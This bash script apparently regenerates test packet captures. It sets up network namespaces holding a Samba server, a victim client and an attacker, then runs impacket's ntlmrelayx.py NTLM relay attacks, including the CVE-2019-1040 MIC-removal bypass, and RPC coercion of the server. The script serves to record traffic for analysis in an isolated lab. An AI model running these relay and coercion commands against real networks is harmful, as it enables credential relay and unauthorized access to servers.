#!/usr/bin/env bash
# Regenerates the captures of this folder: the attacks of an adversary in the middle and the
# RPC calls that coerce a server into authenticating. Run as root on a Debian machine; CI never
# runs it.
#
# Four network namespaces: three hosts on one switch (a bridge in the fourth), so that
# multicast and broadcast reach every host as on a LAN, and the capture (tcpdump on the
# bridge) sees every leg. Every address lives only inside them:
#   mitm-srv  10.79.0.10  Samba 4.17 smbd (standalone: spoolss, netdfs, lsarpc...)
#   mitm-cli  10.79.0.20  the victim / client: impacket's library (coerce.py), rpcclient, smbclient
#   mitm-atk  10.79.0.66  the attacker: impacket's ntlmrelayx.py; the "listener" coercion names
#   mitm-sw   (no address) the bridge mitm-br
#
# Usage: sudo pcaps/mitm/make.sh [OUTDIR]   (default: this folder)
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=$(mkdir -p "${1:-$HERE}" && cd "${1:-$HERE}" && pwd)
SRV=10.79.0.10
CLIENT=10.79.0.20
LISTENER=10.79.0.66
USER=hwadmin
PASS='Hardw1re!'     # test password of a throw-away local account
PY=/usr/bin/python3  # the interpreter with impacket
IMPACKET=/usr/share/doc/python3-impacket/examples  # Debian's python3-impacket example scripts

[ "$(id -u)" = 0 ] || { echo "make.sh: run as root" >&2; exit 1; }
command -v smbd >/dev/null && command -v tcpdump >/dev/null && command -v rpcclient >/dev/null \
  || { apt-get update; DEBIAN_FRONTEND=noninteractive apt-get install -y samba smbclient tcpdump iproute2 ethtool python3-impacket; }

# Debian's ntlmrelayx.py (impacket 0.10) imports dsinternals, which Debian does not package
"$PY" -c 'import dsinternals' 2>/dev/null || "$PY" -m pip install --break-system-packages dsinternals

WORK=$(mktemp -d /tmp/mitm-pcaps.XXXXXX)
PIDS=()
HOSTS=(mitm-srv mitm-cli mitm-atk)
cleanup() {
  set +e
  trap '' INT TERM
  for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
  sleep 1
  # samba-dcerpcd and its rpcd_* helpers outlive smbd: end what still runs in our namespaces
  for ns in "${HOSTS[@]}" mitm-sw; do ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null; done
  sleep 1
  for ns in "${HOSTS[@]}" mitm-sw; do ip netns del "$ns" 2>/dev/null; done
  rm -rf "$WORK"
  return 0
}
trap cleanup EXIT
trap "exit 1" INT TERM
in_srv() { ip netns exec mitm-srv "$@"; }
in_cli() { ip netns exec mitm-cli "$@"; }
in_atk() { ip netns exec mitm-atk "$@"; }

for ns in "${HOSTS[@]}" mitm-sw; do ip netns del "$ns" 2>/dev/null || true; ip netns add "$ns"; done
ip netns exec mitm-sw ip link add mitm-br type bridge
ip netns exec mitm-sw ip link set mitm-br up
. "$HERE/../record.sh"
bridge_port mitm-sw mitm-br mitm-srv "$SRV" mitm-sp
bridge_port mitm-sw mitm-br mitm-cli "$CLIENT" mitm-cp
bridge_port mitm-sw mitm-br mitm-atk "$LISTENER" mitm-ap

# ---- Samba, standalone, with the print spooler and DFS pipes served
id "$USER" >/dev/null 2>&1 || useradd --no-create-home --shell /usr/sbin/nologin "$USER"
dir=$WORK/samba
mkdir -p "$dir"/{lock,state,cache,private,run,ncalrpc,log,share}
cat > "$dir/smb.conf" <<CONF
[global]
  netbios name = FILESRV
  workgroup = HARDWIRE
  server role = standalone server
  interfaces = $SRV/24
  bind interfaces only = yes
  smb ports = 445
  disable netbios = yes
  server smb encrypt = off
  server min protocol = NT1
  admin users = $USER
  lock directory = $dir/lock
  state directory = $dir/state
  cache directory = $dir/cache
  private dir = $dir/private
  pid directory = $dir/run
  ncalrpc dir = $dir/ncalrpc
  log file = $dir/log/%m.log
  passdb backend = tdbsam
  # (its log says why it refuses a logon)
  log level = 3
  host msdfs = yes
  load printers = no
  printcap name = /dev/null
  disable spoolss = no
[share]
  path = $dir/share
  read only = no
CONF
printf '%s\n%s\n' "$PASS" "$PASS" | smbpasswd -c "$dir/smb.conf" -s -a "$USER" >/dev/null
in_srv setsid smbd --foreground --no-process-group --configfile="$dir/smb.conf" > "$dir/log/smbd.out" 2>&1 &
PIDS+=($!)

for _ in $(seq 50); do in_cli bash -c "exec 3<>/dev/tcp/$SRV/445" 2>/dev/null && break; sleep 0.2; done

capture() {  # NAME CMD...: one scenario run in the client namespace, recorded on the bridge
  record mitm-sw mitm-br "" "$@"
}

# ntlmrelayx.py on the attacker, relaying what reaches its SMB server to Samba (extra
# arguments go to ntlmrelayx.py)
relay() {
  # (it runs until its stdin ends: give it a FIFO that we hold open, read and write)
  [ -p "$WORK/relay.in" ] || mkfifo "$WORK/relay.in"
  exec 7<>"$WORK/relay.in"
  # ($! must be the relay itself, not a subshell: ip netns exec execs it)
  ip netns exec mitm-atk "$PY" "$IMPACKET/ntlmrelayx.py" -t "smb://$SRV" -smb2support --no-http-server --no-wcf-server --no-raw-server \
    -ip "$LISTENER" "$@" < "$WORK/relay.in" > "$WORK/relay.log" 2>&1 &
  RELAY=$!
  # (it loads all its protocol clients first: give it time; probing would be relayed)
  for _ in $(seq 300); do in_atk ss -ltn | grep -q ':445 ' && return 0; sleep 1; done
  echo "make.sh: ntlmrelayx.py never listened" >&2; cat "$WORK/relay.log" >&2; return 1
}
stop_relay() { kill "$RELAY" 2>/dev/null || true; wait "$RELAY" 2>/dev/null || true; exec 7>&-; cat "$WORK/relay.log"; }

capture coerce-samba.pcap "$PY" "$HERE/coerce.py" "$SRV" "$USER" "$PASS" "$LISTENER"
capture rpcclient-baseline.pcap rpcclient -U "$USER%$PASS" -c 'srvinfo;enumprinters;netshareenum' "$SRV"
# the victim's smbclient to the attacker, relayed to Samba
relay
capture relay-smb.pcap smbclient "//$LISTENER/share" -U "$USER%$PASS" -c ls
stop_relay
# the same, the MIC dropped on the way (CVE-2019-1040)
relay --remove-mic
capture relay-smb-nomic.pcap smbclient "//$LISTENER/share" -U "$USER%$PASS" -c ls
stop_relay
# the same smbclient straight to Samba: the baseline
capture smb-direct.pcap smbclient "//$SRV/share" -U "$USER%$PASS" -c ls
# why Samba refused the MIC-less AUTHENTICATE
grep -h "NTLMSSP_MIC" "$dir"/log/*.log || true
ls -l "$OUT"/*.pcap
